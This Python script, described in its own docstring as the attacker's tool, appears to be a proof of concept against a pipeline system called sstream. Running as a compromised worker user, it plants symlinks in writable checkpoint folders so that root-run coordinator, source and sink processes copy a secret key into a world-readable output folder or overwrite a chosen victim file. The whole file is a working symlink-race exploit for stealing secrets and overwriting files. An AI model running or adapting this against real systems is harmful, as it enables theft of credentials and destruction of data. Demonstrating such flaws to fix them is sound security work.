#!/usr/bin/env python3
"""The attacker's tool: a compromised worker host (the uid routers and
enclave-mode worker hosts run as, sstream-worker) plants links in the run
folder's ckpt/ (workers write their snapshots there, so it is writable by
that uid) and waits for root to follow them:

  ckpt/steal-eN.snap      -> TARGET    the coordinator (root) copied every
                                       '*-eN.snap' of a complete epoch into
                                       the output folder, 0644: the owner's
                                       data.key among them
  ckpt/source-eN.json.tmp -> VICTIM    the source (root) wrote its resume
  ckpt/sink-eN.snap.tmp   -> VICTIM    points and the sink its snapshot
                                       through a temporary file it opened
                                       without O_NOFOLLOW: root overwrote
                                       VICTIM

usage: plant_ckpt_links.py USER RUN_PARENT TARGET VICTIM SECONDS
(started as root, it becomes USER first; it plants links for epochs
1..400 in every sstream-run-*/ckpt under RUN_PARENT for SECONDS).
"""
import glob
import os
import pwd
import sys
import time

user, parent, target, victim, secs = sys.argv[1:6]
pw = pwd.getpwnam(user)
os.setgroups([])
os.setresgid(pw.pw_gid, pw.pw_gid, pw.pw_gid)
os.setresuid(pw.pw_uid, pw.pw_uid, pw.pw_uid)
assert os.geteuid() == pw.pw_uid

planted = 0
deadline = time.time() + float(secs)
done = set()
while time.time() < deadline:
    for ck in glob.glob(os.path.join(parent, 'sstream-run-*', 'ckpt')):
        if ck in done or not os.access(ck, os.W_OK):
            continue
        for e in range(1, 401):
            for name, to in (('steal-e%d.snap' % e, target),
                             ('source-e%d.json.tmp' % e, victim),
                             ('sink-e%d.snap.tmp' % e, victim)):
                try:
                    os.symlink(to, os.path.join(ck, name))
                    planted += 1
                except OSError:
                    pass
        done.add(ck)
    time.sleep(0.05)
print('planted %d links in %d run folders' % (planted, len(done)))
